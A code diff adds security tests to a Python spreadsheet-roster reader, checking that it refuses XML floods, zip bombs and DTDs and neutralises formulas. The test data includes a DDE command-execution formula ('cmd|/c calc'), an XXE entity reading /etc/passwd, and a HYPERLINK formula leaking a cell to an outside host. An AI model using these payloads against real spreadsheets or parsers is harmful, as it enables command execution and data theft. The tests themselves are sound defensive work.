@@ -2,6 +2,7 @@
 
 import io
 import re
+import time
 import tracemalloc
 import zipfile
 from collections.abc import Callable, Mapping
@@ -17,7 +18,7 @@ from hypothesis import strategies as st
 
 from bot.roster import workbook
 from bot.roster.cells import FORMS
-from bot.roster.rules import CHATS, HOUSEHOLDS, PEOPLE, SHEETS, Line, Problem, Roster, problems
+from bot.roster.rules import CHATS, HOUSEHOLDS, MOST_FOUND, PEOPLE, SHEETS, Line, Problem, Roster, problems
 from bot.roster.workbook import NotARoster, read, write
 from tests.bot.roster.rosters import COMMUNITY, FULL, TREE, WANG, a_roster, told
 
@@ -99,7 +100,21 @@ def test_any_text_survives_writing_and_reading(lines: dict[str, list[Line]]) -> 
 
 
 @pytest.mark.parametrize(
-    "name", ["=1+1", "+1", "-1", "@SUM(A1)", "http://example.org", "mailto:a@b", "007", "1e5", "<b>&", "{=1}"]
+    "name",
+    [
+        "=1+1",
+        "+1",
+        "-1",
+        "@SUM(A1)",
+        "=cmd|'/c calc'!A1",
+        "＝1+1",
+        "http://example.org",
+        "mailto:a@b",
+        "007",
+        "1e5",
+        "<b>&",
+        "{=1}",
+    ],
 )
 def test_a_name_is_never_taken_for_a_formula_a_link_or_a_number(name: str) -> None:
     roster = a_roster(people=((name, *WANG[1:]),))
@@ -323,6 +338,104 @@ def test_entities_that_multiply_are_not_expanded() -> None:
         return bomb + re.sub(rb"<t>[^<]*</t>", b"<t>&l8;</t>", content.partition(b"?>")[2], count=1)
 
     assert refused(repacked(write(FULL), planted)) == [(*WHOLE_FILE, "no_workbook")]
+
+
+def planted(part: str, content: bytes) -> bytes:
+    """A sound roster with one part more, or that part replaced."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(write(FULL))) as old,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for name in set(old.namelist()) - {part}:
+            new.writestr(name, old.read(name))
+        new.writestr(part, content)
+    return out.getvalue()
+
+
+SHEET = "xl/worksheets/sheet1.xml"
+DTD = '<?xml version="1.0" encoding="{}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+FLOODS = {
+    "cells in one row": (SHEET, b"<worksheet><sheetData><row>" + b"<c/>" * 3_000_000),
+    "texts": ("xl/sharedStrings.xml", b"<sst>" + b"<si/>" * 3_000_000),
+    "styles": ("xl/styles.xml", b"<styleSheet><cellXfs>" + b"<xf/>" * 3_000_000),
+    "names": ("xl/workbook.xml", b"<workbook><definedNames>" + b"<definedName/>" * 2_000_000),
+    "relations": ("xl/_rels/workbook.xml.rels", b"<Relationships>" + b"<Relationship/>" * 2_000_000),
+    "kinds": ("[Content_Types].xml", b"<Types>" + b"<Default/>" * 2_000_000),
+}
+
+
+@pytest.mark.parametrize("name", FLOODS)
+def test_a_flood_of_anything_is_refused_at_once(name: str) -> None:
+    """Megabytes of XML in a file of a few dozen kilobytes: parsed, they would be hundreds."""
+    content = planted(*FLOODS[name])
+    assert len(content) < 300_000
+    began = time.perf_counter()
+    assert refused(content) == [(*WHOLE_FILE, "too_big")]
+    assert time.perf_counter() - began < 5
+
+
+@pytest.mark.parametrize("name", FLOODS)
+def test_and_in_little_room(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(workbook, "MOST_CELLS", 10_000)  # watching each of a million would take long
+    content = planted(*FLOODS[name])
+    tracemalloc.start()
+    try:
+        refused(content)
+        assert tracemalloc.get_traced_memory()[1] < workbook.MOST_UNPACKED
+    finally:
+        tracemalloc.stop()
+
+
+def test_a_zip_of_very_many_parts_is_refused() -> None:
+    out = io.BytesIO(write(FULL))
+    with zipfile.ZipFile(out, "a") as archive:
+        for number in range(workbook.MOST_PARTS):
+            archive.writestr(f"xl/media/{number}.png", b"")
+    assert refused(out.getvalue()) == [(*WHOLE_FILE, "too_big")]
+
+
+@pytest.mark.parametrize(
+    "part", [SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml", "docProps/app.xml"]
+)
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+def test_a_document_type_is_refused_wherever_it_stands(part: str, encoding: str) -> None:
+    """No file is read for it, no entity looked up."""
+    assert refused(planted(part, DTD.format(encoding).encode(encoding))) == [(*WHOLE_FILE, "no_workbook")]
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|'/c calc'!A1",
+        '=DDE("excel";"x";"y")',
+        '=HYPERLINK("http://example.org/?"&A1)',
+        '=WEBSERVICE("http://example.org")',
+        "='[other.xlsx]Sheet1'!A1",
+        "=1+1",
+    ],
+)
+def test_a_formula_is_named_and_never_worked_out(formula: str) -> None:
+    found = people(formula, *WANG[1:])
+    assert [(problem.code, problem.found) for problem in found.unread] == [("formula", formula[:MOST_FOUND])]
+
+
+@pytest.mark.parametrize(
+    "part",
+    ["xl/vbaProject.bin", "xl/connections.xml", "xl/queryTables/queryTable1.xml", "customUI/customUI.xml"],
+)
+def test_macros_and_connections_are_left_alone(part: str) -> None:
+    """Nothing in the file is run or fetched: only the cells of the sheets are looked at."""
+    assert read(planted(part, b"<x/>")) == FULL
+
+
+def test_a_workbook_that_says_it_is_something_else_is_none() -> None:
+    def lying(part: str, content: bytes) -> bytes:
+        if part != "[Content_Types].xml":
+            return content
+        return content.replace(b"spreadsheetml.sheet.main+xml", b"wordprocessingml.document.main+xml")
+
+    assert refused(repacked(write(FULL), lying)) == [(*WHOLE_FILE, "no_workbook")]
 
 
 def test_too_many_rows_are_refused_before_they_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
